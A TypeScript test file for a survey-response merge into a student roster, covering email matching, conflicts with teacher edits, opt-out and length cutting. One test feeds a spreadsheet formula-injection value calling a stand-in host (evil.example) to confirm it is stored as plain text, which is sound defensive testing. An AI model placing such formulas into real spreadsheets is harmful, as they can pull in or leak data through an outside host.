// The survey merge policy on plain data: matching by email, filling, set merges, conflicts, opt-out, text safety, cutting.
import { mapColumns } from '../../../src/core/headers';
import { STUDENTS } from '../../../src/core/schema';
import { CUT_MARKER, MAX_STORED } from '../../../src/core/survey/answers';
import type { SurveyDefinition } from '../../../src/core/survey/definition';
import { mergeResponses, missingSurveyColumns, type SurveyResponse } from '../../../src/core/survey/merge';
import { parseRecord } from '../../../src/core/survey/record';
import type { Cell } from '../../../src/core/cells';
import type { TabValues } from '../../../src/core/table';
import { tabValues } from '../tables';

const SURVEY: SurveyDefinition = {
  formId: 'form-1',
  title: 'Survey',
  url: 'https://forms.example/1',
  editUrl: 'https://forms.example/1/edit',
  requestId: '',
  createdAt: '2026-11-23T14:00:00.000Z',
  mergedThrough: null,
  items: [
    { itemId: 1, entryId: '11', title: 'First name', kind: 'text', column: 'firstName' },
    { itemId: 2, entryId: '12', title: 'Last name', kind: 'text', column: 'lastName' },
    { itemId: 3, entryId: '13', title: 'Careers', kind: 'text', column: 'careerPath' },
    { itemId: 4, entryId: '14', title: 'Interests', kind: 'paragraph', column: 'interests' },
    { itemId: 5, entryId: '15', title: 'Types', kind: 'checkbox', column: 'preferredTypes' },
    { itemId: 6, entryId: '16', title: 'Email me', kind: 'yesNo', column: 'optOut' },
    { itemId: 7, entryId: '17', title: 'Coming up', kind: 'paragraph', column: 'events' },
    { itemId: 8, entryId: '18', title: 'Favourite colour', kind: 'text', column: null },
  ],
};

let clock = 0;
function response(email: string, answers: Record<number, string | string[]>, extra: Partial<SurveyResponse> = {}): SurveyResponse {
  clock += 1000;
  const answeredCount = Object.values(answers).filter((v) => (Array.isArray(v) ? v.length > 0 : v.trim() !== '')).length;
  return { formId: 'form-1', responseId: `r${clock}`, timestamp: clock, email, answers: { ...answers }, answeredCount, ...extra };
}

function roster(records: Record<string, Cell>[]): TabValues {
  return tabValues(STUDENTS, records);
}

function merge(values: TabValues, responses: SurveyResponse[]) {
  let n = 0;
  const map = mapColumns(STUDENTS, values.header);
  return { map, result: mergeResponses({ students: values, map, surveys: [SURVEY], responses, newId: () => `stu-new${(n += 1)}` }) };
}

/** The roster after a merge: changed cells applied, new rows appended. */
function applied(values: TabValues, responses: SurveyResponse[]): { values: TabValues; notices: string[]; merged: number } {
  const { result } = merge(values, responses);
  const rows = values.rows.map((r) => [...r]);
  for (const change of result.changes) for (const [col, v] of Object.entries(change.cells)) rows[change.row - 2][Number(col)] = v;
  return { values: { header: values.header, rows: [...rows, ...result.newRows] }, notices: result.notices.map((n) => n.message), merged: result.merged };
}

function cell(values: TabValues, row: number, header: string): Cell {
  return values.rows[row][values.header.indexOf(header)];
}

const ANA = { id: 'stu-ana', firstName: 'Ana', lastName: 'Lopez', email: 'ana@school.example', interests: 'Robotics, music', careerPath: 'nurse' };

describe('mergeResponses', () => {
  it('adds a new student with a new id, the answers under their columns, and the response recorded', () => {
    const { values, merged } = applied(roster([ANA]), [response('ben@school.example', { 1: 'Ben', 2: 'Okafor', 3: 'pilot', 5: ['video', 'book'] })]);
    expect(merged).toBe(1);
    expect(values.rows).toHaveLength(2);
    expect(cell(values, 1, 'ID')).toBe('stu-new1');
    expect([cell(values, 1, 'First name'), cell(values, 1, 'Email'), cell(values, 1, 'Career path'), cell(values, 1, 'Preferred resource types')]).toEqual(['Ben', 'ben@school.example', 'pilot', 'video, book']);
    expect(parseRecord(String(cell(values, 1, 'Survey record'))).merged).toEqual({ 'form-1': [expect.any(String)] });
  });

  it('matches a returning student ignoring case, spaces and invisible characters', () => {
    const { values } = applied(roster([ANA]), [response(' ANA@School.Example\u200b ', { 4: 'chess' })]);
    expect(values.rows).toHaveLength(1);
    expect(cell(values, 0, 'Interests')).toBe('Robotics, music, chess');
  });

  it('merges lists as sets: the teacher\'s spelling kept, no duplicate in another case', () => {
    const { values } = applied(roster([ANA]), [response('ana@school.example', { 4: 'MUSIC, robotics, Chess, chess', 5: ['video'] })]);
    expect(cell(values, 0, 'Interests')).toBe('Robotics, music, Chess');
    expect(cell(values, 0, 'Preferred resource types')).toBe('video');
  });

  it('fills an empty field, replaces what the last merge wrote, and keeps a field the teacher edited as a conflict', () => {
    const start = roster([{ ...ANA, careerPath: '' }]);
    const first = applied(start, [response('ana@school.example', { 3: 'nurse' })]);
    expect(cell(first.values, 0, 'Career path')).toBe('nurse');
    const second = applied(first.values, [response('ana@school.example', { 3: 'doctor' })]);
    expect(cell(second.values, 0, 'Career path')).toBe('doctor');
    second.values.rows[0][second.values.header.indexOf('Career path')] = 'surgeon (teacher)';
    const third = applied(second.values, [response('ana@school.example', { 3: 'vet' })]);
    expect(cell(third.values, 0, 'Career path')).toBe('surgeon (teacher)');
    expect(parseRecord(String(cell(third.values, 0, 'Survey record'))).conflicts).toEqual({ careerPath: { formId: 'form-1', responseId: expect.any(String) } });
  });

  it('treats a field the teacher typed before any merge as the teacher\'s', () => {
    const { values } = applied(roster([ANA]), [response('ana@school.example', { 3: 'pilot' })]);
    expect(cell(values, 0, 'Career path')).toBe('nurse');
    expect(Object.keys(parseRecord(String(cell(values, 0, 'Survey record'))).conflicts)).toEqual(['careerPath']);
  });

  it('clears a conflict when a later answer agrees with the teacher', () => {
    const once = applied(roster([ANA]), [response('ana@school.example', { 3: 'pilot' })]);
    const twice = applied(once.values, [response('ana@school.example', { 3: 'nurse' })]);
    expect(parseRecord(String(cell(twice.values, 0, 'Survey record'))).conflicts).toEqual({});
  });

  it('maps Email me resources: No ticks Opt out, Yes clears it, no answer changes nothing', () => {
    const no = applied(roster([ANA]), [response('ana@school.example', { 6: 'No' })]);
    expect(cell(no.values, 0, 'Opt out')).toBe(true);
    const blank = applied(no.values, [response('ana@school.example', { 3: 'nurse' })]);
    expect(cell(blank.values, 0, 'Opt out')).toBe(true);
    const yes = applied(blank.values, [response('ana@school.example', { 6: 'Yes' })]);
    expect(cell(yes.values, 0, 'Opt out')).toBe(false);
  });

  it('appends events separated by semicolons, keeping commas inside an entry', () => {
    const { values } = applied(roster([{ ...ANA, events: 'Birthday Mar 14' }]), [response('ana@school.example', { 7: 'Concert Dec 5, 2026\nbirthday mar 14' })]);
    expect(cell(values, 0, 'Important events')).toBe('Birthday Mar 14; Concert Dec 5, 2026');
  });

  it.each(['=IMPORTXML("http://evil.example","//a")', '+1 555 0100', '-2', '@x', "'quoted"])('stores %s so that it stays text', (text) => {
    const { values } = applied(roster([]), [response('x@school.example', { 1: text, 3: text })]);
    expect(cell(values, 0, 'First name')).toBe(`'${text}`);
    expect(cell(values, 0, 'Career path')).toBe(`'${text}`);
  });

  it.each(['3/4', '\tleading tab', '00123', 'TRUE'])('stores %s as written (the Students columns are plain text)', (text) => {
    const { values } = applied(roster([]), [response('x@school.example', { 3: text })]);
    expect(cell(values, 0, 'Career path')).toBe(text.trim());
  });

  it('cuts an answer longer than a cell with a visible marker and a notice', () => {
    const long = 'a'.repeat(60_000);
    const { values, notices } = applied(roster([ANA]), [response('ana@school.example', { 4: long })]);
    const stored = String(cell(values, 0, 'Interests'));
    expect(stored.length).toBe(MAX_STORED);
    expect(stored.endsWith(CUT_MARKER)).toBe(true);
    expect(notices).toEqual([expect.stringMatching(/Ana Lopez's answer to "Interests" is 60,000 characters.*marked as cut/)]);
  });

  it('skips a response already merged, so merging the same responses twice changes nothing', () => {
    const responses = [response('ana@school.example', { 3: 'doctor', 4: 'chess' }), response('new@school.example', { 1: 'Neo' })];
    const once = applied(roster([{ ...ANA, careerPath: '' }]), responses);
    const { result } = merge(once.values, responses);
    expect(result).toEqual({ changes: [], newRows: [], merged: 0, notices: [] });
  });

  it('merges two responses from one new student into one row, the later answer winning', () => {
    const { values } = applied(roster([]), [response('kim@school.example', { 3: 'chef' }), response('KIM@school.example', { 3: 'baker' })]);
    expect(values.rows).toHaveLength(1);
    expect(cell(values, 0, 'Career path')).toBe('baker');
  });

  it('reports an address that is not one and an empty response; neither adds a row', () => {
    const { values, notices, merged } = applied(roster([ANA]), [response('not an email', { 1: 'Zed' }), response('zed@school.example', {}), response('ana@school.example', { 3: ' ' })]);
    expect(values.rows).toHaveLength(1);
    expect(merged).toBe(1);
    expect(notices).toEqual([
      expect.stringContaining('no usable email address ("not an email")'),
      expect.stringContaining('zed@school.example sent an empty response'),
      expect.stringContaining('Ana Lopez sent an empty response'),
    ]);
  });

  it('keeps an unmapped answer out of the roster but still records the response', () => {
    const { values } = applied(roster([ANA]), [response('ana@school.example', { 8: 'blue' })]);
    expect(values.rows[0].map(String).some((v) => v.includes('blue'))).toBe(false);
    expect(parseRecord(String(cell(values, 0, 'Survey record'))).merged['form-1']).toHaveLength(1);
  });

  it('ignores answers to items the survey does not know (a question added in the Form) and never puts an answer in another field', () => {
    const { values } = applied(roster([ANA]), [response('ana@school.example', { 99: 'surprise', 3: 'nurse' })]);
    expect(values.rows[0].map(String).some((v) => v.includes('surprise'))).toBe(false);
  });

  it('finds columns the teacher moved, and names the survey columns set-up must add first', () => {
    const headers = [...STUDENTS.columns.map((c) => c.header)].reverse();
    const values = tabValues(STUDENTS, [ANA], headers);
    const { values: after } = applied(values, [response('ana@school.example', { 4: 'chess' })]);
    expect(cell(after, 0, 'Interests')).toBe('Robotics, music, chess');
    const partial = mapColumns(STUDENTS, STUDENTS.columns.filter((c) => !['surveyRecord', 'careerPath'].includes(c.key)).map((c) => c.header));
    expect(missingSurveyColumns(partial, [SURVEY])).toEqual(['Survey record', 'Career path']);
  });
});
